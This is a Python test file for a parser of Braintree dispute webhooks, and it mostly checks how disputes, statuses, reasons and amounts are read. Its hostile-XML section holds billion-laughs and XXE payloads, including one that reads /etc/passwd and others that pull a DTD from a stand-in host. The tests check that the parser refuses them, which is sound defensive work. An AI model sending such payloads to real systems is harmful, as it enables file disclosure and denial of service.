"""What Braintree's XML says, and what hostile XML does not get to do."""

from __future__ import annotations

from base64 import encodebytes
from datetime import UTC, date, datetime
from typing import Any
from urllib.parse import urlencode

import pytest
from hypothesis import given
from hypothesis import strategies as st

from goodstanding.channels.braintree.parse import parse
from goodstanding.channels.braintree.vocabulary import CATEGORY, KINDS, OTHER_MATTERS, RULED
from goodstanding.channels.braintree.xml import read_xml, write_xml
from goodstanding.contract import Due, Incoming, ParsedNotice, Reason, Reference, Unreadable

NOW = datetime(2026, 11, 2, tzinfo=UTC)


def dispute(**changes: Any) -> dict[str, Any]:
    made = {
        "id": "d1", "amount-disputed": "45.90", "currency-iso-code": "USD", "kind": "chargeback", "reason": "fraud", "reply-by-date": "2026-10-19",
        "status": "open", "updated-at": "2026-10-05T09:12:33Z", "transaction": {"id": "t1", "order-id": "GS-1", "payment-instrument-subtype": "Visa"},
    }  # fmt: skip
    return {
        name.replace("_", "-"): value
        for name, value in (made | {key.replace("_", "-"): item for key, item in changes.items()}).items()
        if value is not None
    }


def incoming(xml: str | bytes) -> Incoming:
    return Incoming(origin="lookup", body=xml if isinstance(xml, bytes) else xml.encode(), received_at=NOW)


def read(**changes: Any) -> ParsedNotice:
    (notice,) = parse(incoming(write_xml("dispute", dispute(**changes))))
    assert isinstance(notice, ParsedNotice)
    return notice


def told(kind: str, inner: str | None = None) -> Incoming:
    subject = write_xml("dispute", dispute()) if inner is None else inner
    xml = f"<notification><timestamp>2026-10-05T09:12:40Z</timestamp><kind>{kind}</kind><subject>{subject}</subject></notification>"
    return incoming(urlencode({"bt_signature": "a|b", "bt_payload": encodebytes(xml.encode()).decode()}).encode())


@pytest.mark.parametrize("kind", sorted(KINDS))
def test_every_kind_of_dispute_webhook_is_read(kind: str) -> None:
    (notice,) = parse(told(kind))
    assert isinstance(notice, ParsedNotice)
    assert notice.case_ref == "d1"


@pytest.mark.parametrize(
    ("said", "kind", "stage"),
    [("chargeback", "chargeback", "dispute"), ("pre_arbitration", "chargeback", "pre_arbitration"), ("retrieval", "pre_dispute_alert", "inquiry"), ("kind_of_tomorrow", "chargeback", "")],
)  # fmt: skip
def test_kinds_and_stages(said: str, kind: str, stage: str) -> None:
    notice = read(kind=said)
    assert (notice.kind, notice.stage, notice.facts["braintree_kind"]) == (kind, stage, said)


@pytest.mark.parametrize(("status", "result"), RULED.items())
def test_statuses_that_decide(status: str, result: str) -> None:
    notice = read(status=status)
    assert (notice.kind, notice.respond_by) == ("dispute_result", None)
    assert notice.ruling and (notice.ruling.result, notice.ruling.final) == (result, True)


@pytest.mark.parametrize("status", ["under_review", "disputed", "status_of_tomorrow"])
def test_statuses_that_wait_for_others(status: str) -> None:
    notice = read(status=status)
    assert (notice.kind, notice.status, notice.ruling, notice.respond_by) == ("chargeback", status, None, None)
    assert notice.facts["response_allowed"] == "false"


def test_the_reply_by_date_is_a_day_without_zone() -> None:
    assert read().respond_by == Due(on=date(2026, 10, 19), raw="2026-10-19")
    assert read(reply_by_date=None).respond_by is None
    with pytest.raises(Unreadable, match="reply_by_date"):
        read(reply_by_date="soon")


def test_visas_own_rules_settle_before_a_dispute() -> None:
    settled = read(pre_dispute_program="visa_rdr", status="auto_accepted")
    assert settled.ruling and (settled.kind, settled.stage, settled.ruling.result) == (
        "dispute_result",
        "alert",
        "prevented",
    )
    waiting = read(pre_dispute_program="visa_rdr")
    assert (waiting.kind, waiting.stage, waiting.respond_by, waiting.facts["response_allowed"]) == (
        "pre_dispute_alert",
        "alert",
        None,
        "false",
    )
    assert read(pre_dispute_program="none").stage == "dispute"


@pytest.mark.parametrize(
    ("subtype", "network", "kind"),
    [("Visa", "visa", "chargeback"), ("MasterCard", "mastercard", "chargeback"), ("American Express", "amex", "chargeback"), ("PayPal", "", "refund_dispute"), ("Venmo Account", "", "refund_dispute"), ("Card of Tomorrow", "card of tomorrow", "chargeback")],
)  # fmt: skip
def test_networks_and_wallets(subtype: str, network: str, kind: str) -> None:
    notice = read(transaction={"payment-instrument-subtype": subtype})
    assert (notice.network, notice.kind) == (network, kind)


@pytest.mark.parametrize(("reason", "category"), [*CATEGORY.items(), ("retrieval", ""), ("reason_of_tomorrow", "")])
def test_reasons(reason: str, category: str) -> None:
    notice = read(reason=reason)
    assert (notice.reason, notice.reason_category) == (Reason(scheme="braintree", code=reason), category)
    assert read(reason=reason, reason_code="13.1").reason == Reason(scheme="visa", code="13.1")


@pytest.mark.parametrize(
    ("currency", "value", "shown"),
    [("USD", "45.9", "45.90 USD"), ("JPY", "12800", "12800 JPY"), ("KWD", "1.234", "1.234 KWD")],
)
def test_amounts_are_in_major_units(currency: str, value: str, shown: str) -> None:
    assert str(read(currency_iso_code=currency, amount_disputed=value).amount) == shown


def test_references_for_matching() -> None:
    assert read().references == (
        Reference(type="case", value="d1", system="braintree"), Reference(type="payment", value="t1", system="braintree"), Reference(type="order", value="GS-1"),
    )  # fmt: skip


def test_the_same_state_told_and_read_is_the_same_event_and_late_news_is_older() -> None:
    (by_webhook,) = parse(told("dispute_opened"))
    assert isinstance(by_webhook, ParsedNotice)
    assert by_webhook.event_ref == read().event_ref == "d1:open:2026-10-05T09:12:33Z"
    later = read(status="lost", updated_at="2026-10-09T09:12:33Z")
    assert later.event_ref != by_webhook.event_ref
    assert later.occurred_at and by_webhook.occurred_at and later.occurred_at > by_webhook.occurred_at


def test_other_matters_answer_nothing_and_unknown_disputes_are_named() -> None:
    for kind in OTHER_MATTERS:
        assert list(parse(told(kind, "<x/>"))) == []
    for kind in ("dispute_of_tomorrow", "news_of_tomorrow", "Not A Kind"):
        with pytest.raises(Unreadable, match=kind) as caught:
            parse(told(kind))
        assert caught.value.code == "unknown_event"


def test_fields_that_no_one_knows_are_reported() -> None:
    assert read(novel_field="x", novel_empty="").unread == ("novel_field",)


# --- hostile XML ---

_LAUGHS = '<!DOCTYPE n [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><dispute><id>&c;</id></dispute>'
_OUTSIDE = '<!DOCTYPE n [<!ENTITY x SYSTEM "file:///etc/passwd">]><dispute><id>&x;</id></dispute>'


@pytest.mark.parametrize(
    ("xml", "code"),
    [
        (_LAUGHS, "declares_entities"),
        (_OUTSIDE, "declares_entities"),
        ('<!DOCTYPE n SYSTEM "http://evil.example/x.dtd"><dispute/>', "declares_entities"),
        ('<!DOCTYPE n [<!ENTITY % p SYSTEM "http://evil.example/x">%p;]><dispute/>', "declares_entities"),
        ("<dispute><id>&undeclared;</id></dispute>", "not_xml"),
        ("<a>" * 100 + "</a>" * 100, "too_deep"),
        ("<a>" + "<b/>" * 50_001 + "</a>", "too_large"),
        ("<dispute>" + " " * (4 * 2**20) + "</dispute>", "too_large"),
        ("<dispute><id>d1</id>", "not_xml"),
        ('<?xml version="1.0" encoding="no-such"?><dispute/>', "not_xml"),
        ("<dispute>\x00</dispute>", "not_xml"),
        ("<other/>", "not_a_webhook"),
    ],
)  # fmt: skip
def test_hostile_xml_is_refused(xml: str, code: str) -> None:
    with pytest.raises(Unreadable) as caught:
        parse(incoming(xml))
    assert caught.value.code == code


@pytest.mark.parametrize(
    ("body", "code"),
    [(b"", "not_a_webhook"), (b"\xff", "not_a_form"), (b"a=1&" * 100, "not_a_form"), (b"bt_payload=%3B", "not_base64"), (b"bt_payload=A", "not_base64"), (b"bt_payload=AAAA", "not_xml"), (b"x" * (4 * 2**20 + 1), "too_large")],
)  # fmt: skip
def test_hostile_forms_are_refused(body: bytes, code: str) -> None:
    with pytest.raises(Unreadable) as caught:
        parse(incoming(body))
    assert caught.value.code == code


def test_missing_fields_are_named() -> None:
    for inner, said in (
        ("", "notification.subject.dispute"),
        ("<dispute><id>../x</id></dispute>", "id"),
        ("<dispute/>", "notification.subject.dispute"),
    ):
        with pytest.raises(Unreadable, match=said):
            parse(told("dispute_opened", inner))


names = st.from_regex(r"[a-z][a-z0-9_]{0,10}", fullmatch=True)
texts = st.text(st.characters(codec="utf-8", exclude_categories=["Cs", "Cc", "Cn"]), max_size=20).map(str.strip)


@given(st.dictionaries(names, texts | st.dictionaries(names, texts, min_size=1, max_size=3), min_size=1, max_size=4))
def test_what_is_written_reads_back(value: dict[str, Any]) -> None:
    assert read_xml(write_xml("root", value).encode()) == {"root": value}


def test_characters_that_xml_forbids_are_left_out() -> None:
    assert write_xml("a", "x\x00y\ud800z\ufffe<&>汉") == "<a>xyz&lt;&amp;&gt;&#27721;</a>"
